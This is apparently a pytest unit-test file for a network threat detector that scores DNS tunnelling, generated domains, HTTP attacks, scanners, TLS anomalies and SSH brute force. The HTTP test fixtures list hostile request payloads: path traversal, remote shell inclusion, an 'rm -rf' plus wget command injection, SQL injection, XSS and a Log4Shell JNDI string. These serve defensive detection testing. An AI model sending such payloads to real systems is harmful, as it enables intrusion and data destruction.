"""What dns, http, tls and auth events show by themselves."""

from __future__ import annotations

import random
from typing import Any

import msgspec
import numpy as np
import pytest
from numpy.typing import NDArray

from models.features import FeatureExtractor
from models.kinds.detectors import Detectors
from models.kinds.http import families
from models.kinds.join import join, strongest
from models.kinds.kind import Part, strengths_of
from models.kinds.names import entropy, read_name
from models.kinds.trigrams import generatedness, parts_of, table_of
from models.scorer import Scorer
from models.scores import Scores
from schemas.event import Event
from schemas.threat import CLASSES, ContributionStruct, ThreatClass
from tests.unit.model_events import NOON, flow, table

ENTRIES = 1024
SELF_SIGNED: dict[str, Any] = {"version": "TLSv12", "validation_status": "self signed certificate"}


def event(kind: str, at: float = 0.0, src: str = "10.0.0.5", dst: str = "93.184.215.14", **section: Any) -> Any:
    """Return an event `at` seconds after noon; `user` and `dst_port` belong to its head."""
    head: dict[str, Any] = {name: section.pop(name) for name in ("user", "dst_port") if name in section}
    body = {"kind": kind, "event_time": NOON + at, "src_ip": src, "dst_ip": dst, **head, kind: section}
    return msgspec.convert(body, Event)


def looked_at(events: list[Any], detectors: Detectors | None = None, partition: int = 0) -> list[Part]:
    detectors = detectors or Detectors(ENTRIES)
    return detectors.look(table(events), np.full(len(events), partition, np.int32))


def shown(events: list[Any]) -> dict[ThreatClass, float]:
    """Return the strongest strength by class of the last event, which is of the one kind that there is."""
    (part,) = looked_at(events)
    found: dict[ThreatClass, float] = {}
    for detector, strength in zip(part.kind.detectors, part.strengths[-1].tolist(), strict=True):
        found[detector.threat_class] = max(found.get(detector.threat_class, 0.0), strength)
    return found


def traits(events: list[Any]) -> dict[str, float]:
    (part,) = looked_at(events)
    return {t.name: v for t, v in zip(part.kind.traits, part.traits[-1].tolist(), strict=True)}


def tunnelled(count: int, domain: str = "t.example.com", qtype: str = "TXT") -> list[Any]:
    """Return queries as a tunnel makes them: every name carries 40 bytes in base 32."""
    dice = random.Random(7)
    letters = "abcdefghijklmnopqrstuvwxyz234567"
    names = ["".join(dice.choices(letters, k=60)) for _ in range(count)]
    return [event("dns", n * 0.5, query=f"{name}.{domain}", qtype=qtype) for n, name in enumerate(names)]


def generated(count: int, rcode: str) -> list[Any]:
    dice = random.Random(3)
    names = ["".join(dice.choices("abcdefghijklmnopqrstuvwxyz", k=14)) for _ in range(count)]
    return [event("dns", n, query=f"{name}.com", qtype="A", rcode=rcode) for n, name in enumerate(names)]


def refused(at: float, user: str = "ann", src: str = "10.0.0.5") -> Any:
    return event("auth", at, src, outcome="failure", method="ssh", user=user)


def test_flows_and_alerts_show_nothing_here() -> None:
    assert looked_at([flow(), flow(1)]) == []
    assert looked_at([event("alert", severity=1)]) == []


@pytest.mark.parametrize("qtype", ["TXT", "A"])
def test_dns_tunnel_is_told_by_what_its_names_carry(qtype: str) -> None:
    assert shown(tunnelled(10, qtype=qtype))[ThreatClass.COMMAND_AND_CONTROL] < 0.25
    assert shown(tunnelled(200, qtype=qtype))[ThreatClass.COMMAND_AND_CONTROL] > 0.8
    assert traits(tunnelled(100))["dns_subdomains"] == pytest.approx(100, rel=0.1)


def test_many_short_names_of_one_domain_are_no_tunnel() -> None:
    hosts = [event("dns", n, query=f"host{n}.example.com", qtype="A") for n in range(300)]
    assert shown(hosts)[ThreatClass.COMMAND_AND_CONTROL] < 0.25
    same = [event("dns", n, query=f"{'a1b2c3d4' * 6}.example.com", qtype="TXT") for n in range(300)]
    assert shown(same)[ThreatClass.COMMAND_AND_CONTROL] < 0.05


def test_query_for_a_tunnels_own_domain_takes_no_part() -> None:
    assert shown([*tunnelled(200), event("dns", 101, query="www.example.com", qtype="A")])[
        ThreatClass.COMMAND_AND_CONTROL
    ] == 0  # fmt: skip


def test_names_made_by_a_program_are_a_threat_once_several_do_not_exist() -> None:
    assert shown(generated(1, "NXDOMAIN"))[ThreatClass.COMMAND_AND_CONTROL] <= 0.3
    assert shown(generated(30, "NOERROR"))[ThreatClass.COMMAND_AND_CONTROL] <= 0.3
    assert shown(generated(30, "NXDOMAIN"))[ThreatClass.COMMAND_AND_CONTROL] > 0.5


@pytest.mark.parametrize("name", ["googletagmanager", "stackoverflow", "bundesnetzagentur", "cloudfront", "wikipedia"])
def test_names_that_people_chose_do_not_look_generated(name: str) -> None:
    assert generatedness(name) == 0


@pytest.mark.parametrize("name", ["xjwqkzpvtrbqhd", "q8zx7kv2jw9p", "kqzvxwjtmbpl"])
def test_random_names_look_generated(name: str) -> None:
    assert generatedness(name) > 0.5


def test_short_and_encoded_labels_say_nothing() -> None:
    assert generatedness("xkqzv") == generatedness("xn--zckzah") == 0


def test_table_of_trigrams_is_made_of_names() -> None:
    table_ = table_of(["banana", "bandana"])
    assert table_[3, 2, 3] > table_[2, 1, 14]  # "bab" is rarer than "an" after "b"
    assert parts_of("@types/left-pad") == {"types", "left-pad", "leftpad"}


def test_registered_domains_are_found() -> None:
    assert read_name("a.b.example.co.uk").domain == read_name("example.co.uk.").domain != 0
    assert read_name("a.example.com").domain != read_name("a.example.net").domain
    assert read_name("www.example.com").subdomain_length == 3
    for none in (None, "", "localhost", "printer.local", "4.3.2.1.in-addr.arpa", "10.0.0.1"):
        assert read_name(none).domain == 0
    assert entropy("aabb") == 1


@pytest.mark.parametrize(
    "target",
    [
        "/?f=../../../../etc/passwd",
        "/?f=%252e%252e%252f%252e%252e%252fetc",
        "/?page=http://198.51.100.7/shell.txt",
        "/setup.cgi?cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/x",
        "/index.php?-d+allow_url_include%3d1",
        "/?q=<script>alert(1)</script>",
        "/?id=1+UNION+ALL+SELECT+1,2",
        "/?id=1'+or+'1'='1",
        "/?x=${jndi:ldap://198.51.100.7/a}",
    ],
)
def test_attacks_in_requests_are_found(target: str) -> None:
    assert families(target) >= 1
    assert shown([event("http", method="GET", uri=target, user_agent="Mozilla/5.0")])[ThreatClass.EXPLOIT] > 0.8


@pytest.mark.parametrize(
    "target",
    [
        "/select?union=western&from=home",
        "/search?q=how+to+sleep+better&lang=en",
        "/docs/../index.html",
        "/login?next=https://example.com/account",
        "/c/o'reilly-and-sons",
        "/item?a=1&id=7&cat=3&ping=0",
        "/a?u=%7B%22id%22%3A1%7D&sig=dGhpcyBpcyBhIHNpZ25hdHVyZQ==",
    ],
)
def test_usual_requests_show_no_attack(target: str) -> None:
    assert families(target) == 0


def test_scanner_tells_itself() -> None:
    assert shown([event("http", uri="/", user_agent="masscan/1.3")])[ThreatClass.SCAN] == pytest.approx(0.6)
    assert shown([event("http", uri="/", user_agent="curl/8.5")])[ThreatClass.SCAN] < 0.1


def test_pages_that_are_guessed_are_a_scan_and_one_that_is_found_is_none() -> None:
    guessed = [event("http", n, uri=f"/{n}", user_agent="x", status_code=404) for n in range(60)]
    assert shown(guessed)[ThreatClass.SCAN] > 0.8
    assert shown([*guessed, event("http", 61, uri="/", user_agent="x", status_code=200)])[ThreatClass.SCAN] == 0
    broken = [event("http", n, uri="/gone.png", user_agent="x", status_code=404) for n in range(60)]
    assert shown(broken)[ThreatClass.SCAN] < 0.1


def test_hints_of_tls_make_a_threat_together_only() -> None:
    appliance: dict[str, Any] = {**SELF_SIGNED, "dst_port": 443}
    implant: dict[str, Any] = {**appliance, "server_name": "192.0.2.4", "dst_port": 8443}
    for section, threat in ((appliance, False), (implant, True)):
        (part,) = looked_at([event("tls", dst="192.168.0.4", **section)])
        assert (1 - np.prod(1 - part.strengths[0]) > 0.5) == threat


def test_certificate_is_held_against_the_time_of_the_event_and_the_name() -> None:
    assert traits([event("tls", version="TLS 1.3", not_after=NOON - 1)])["tls_expired"] == 1
    assert traits([event("tls", version="TLS 1.3", not_after=NOON + 1)])["tls_expired"] == 0
    assert traits([event("tls", version="TLS 1.3", name_matches=False)])["tls_other_name"] == 1
    assert traits([event("tls", version="TLS 1.1", subject="CN=a", issuer="CN=a")])["tls_old_version"] == 1
    alone = traits([event("tls", subject="CN=a", issuer="CN=a")])
    assert set(alone.values()) == {0}  # a certificate of the chain, not a handshake


def test_passwords_guessed_slowly_are_told_by_source_and_by_account() -> None:
    assert shown([refused(n * 30) for n in range(4)])[ThreatClass.BRUTE_FORCE] < 0.25
    assert shown([refused(n * 25) for n in range(20)])[ThreatClass.BRUTE_FORCE] > 0.5
    from_many = [refused(n * 25, src=f"10.0.1.{n}") for n in range(20)]
    assert shown(from_many)[ThreatClass.BRUTE_FORCE] > 0.5


def test_spraying_is_told_by_the_number_of_accounts() -> None:
    assert shown([refused(n, user=f"user{n}") for n in range(9)])[ThreatClass.BRUTE_FORCE] > 0.6


def test_success_counts_after_failures_only() -> None:
    success = event("auth", 100, outcome="success", user="ann")
    assert shown([success])[ThreatClass.BRUTE_FORCE] == 0
    assert shown([*[refused(n) for n in range(2)], success])[ThreatClass.BRUTE_FORCE] < 0.1
    assert shown([*[refused(n) for n in range(15)], success])[ThreatClass.BRUTE_FORCE] > 0.7


def test_window_is_ten_minutes_of_one_partition() -> None:
    detectors = Detectors(ENTRIES)
    looked_at([refused(n) for n in range(20)], detectors)
    (other,) = looked_at([refused(30)], detectors, partition=1)
    assert other.traits[0, 2] == 1
    (late,) = looked_at([refused(700)], detectors)
    assert late.traits[0, 2] == 1
    looked_at([refused(701)], detectors)
    detectors.forget(0)
    (forgotten,) = looked_at([refused(702)], detectors)
    assert forgotten.traits[0, 2] == 1


def test_batches_make_no_difference_and_observed_events_count() -> None:
    events = tunnelled(50)
    (whole,) = looked_at(events)
    detectors = Detectors(ENTRIES)
    pieces = [looked_at(events[at : at + 7], detectors)[0].traits for at in range(0, 50, 7)]
    np.testing.assert_array_equal(np.concatenate(pieces), whole.traits)
    extractor = FeatureExtractor(window_entities=ENTRIES * 4)
    partitions = np.zeros(50, np.int32)
    extractor.observe(table(events[:49]), partitions[:49])
    (last,) = extractor.kinds.look(table(events[49:]), partitions[:1])
    np.testing.assert_array_equal(last.traits[0], whole.traits[-1])


def scores(risk: list[float]) -> Scores:
    """Return benign scores of a given risk."""
    probabilities = np.zeros((len(risk), len(CLASSES)), np.float32)
    probabilities[:, 0] = 1
    given: NDArray[np.float32] = np.array(risk, np.float32)
    return Scores(np.zeros(len(risk), np.float32), probabilities, given, given >= 50, np.zeros(len(risk), np.intp))


def test_joined_risk_is_a_noisy_or_and_its_reasons_sum_to_what_was_added() -> None:
    (part,) = looked_at([event("http", uri="/?id=1+union+select+1", user_agent="sqlmap/1.7")])
    joined = scores([30.0])
    reasons = join(joined, [part], 50.0)
    expected = 1 - 0.7 * np.prod(1 - part.strengths[0])
    assert joined.risk[0] == pytest.approx(100 * expected, rel=1e-5)
    assert joined.threat[0]
    assert CLASSES[joined.class_numbers[0]] == ThreatClass.EXPLOIT
    assert joined.class_probabilities[0].sum() == pytest.approx(1, abs=1e-5)
    added = np.log(expected / (1 - expected)) - np.log(0.3 / 0.7)
    assert sum(reason.contribution for reason in reasons[0]) == pytest.approx(added, rel=1e-4)
    assert reasons[0][0].name == "http_attacks"


@pytest.mark.parametrize(
    "events",
    [
        tunnelled(200),
        generated(12, "NXDOMAIN"),
        [event("http", uri="/?id=1+union+select+1", user_agent="sqlmap/1.7")],
        [event("tls", dst="192.168.0.4", dst_port=8443, server_name="192.0.2.4", **SELF_SIGNED)],
        [refused(n, user=f"user{n % 10}") for n in range(30)],
    ],
    ids=["tunnel", "generated", "http", "tls", "auth"],
)  # fmt: skip
def test_the_first_reason_lowers_the_risk_more_than_a_random_trait_does(events: list[Any]) -> None:
    (part,) = looked_at(events)
    last = len(events) - 1
    first = join(scores([0.0] * len(events)), [part], 1.0)[last][0].name

    def risk(traits: NDArray[np.float64]) -> float:
        return float(1 - np.prod(1 - strengths_of(part.kind, traits)))

    whole, lowered = risk(part.traits[[last]]), {}
    for column, trait in enumerate(part.kind.traits):
        changed = part.traits[[last]].copy()
        changed[:, column] = trait.usual
        lowered[trait.name] = whole - risk(changed)
    others = [by for name, by in lowered.items() if name != first]
    assert lowered[first] > np.mean(others)
    assert lowered[first] > 0.1


def test_what_shows_nothing_changes_no_score() -> None:
    (part,) = looked_at([event("dns", query="www.example.com", qtype="A", rcode="NOERROR")])
    joined = scores([70.0])
    assert join(joined, [part], 50.0) == {}
    assert joined.risk[0] == pytest.approx(70)
    assert joined.class_numbers[0] == 0


def test_strongest_reasons_of_both_are_kept() -> None:
    reasons = [ContributionStruct(name=str(n), observed=1, expected=0, contribution=n) for n in (3.0, -9.0, 1.0)]
    assert [reason.name for reason in strongest(reasons[:1], reasons[1:], top=2)] == ["-9.0", "3.0"]


def test_tunnel_is_scored_by_the_model_that_ships() -> None:
    events, scorer = tunnelled(200), Scorer.load()
    extractor = FeatureExtractor(window_entities=ENTRIES * 4)
    partitions = np.zeros(len(events), np.int32)
    joined = scorer.score(extractor.extract(table(events), partitions))
    assert not joined.threat.any()
    join(joined, extractor.kinds.look(table(events), partitions), scorer.threshold)
    assert joined.threat[-1]
    assert CLASSES[joined.class_numbers[-1]] == ThreatClass.COMMAND_AND_CONTROL
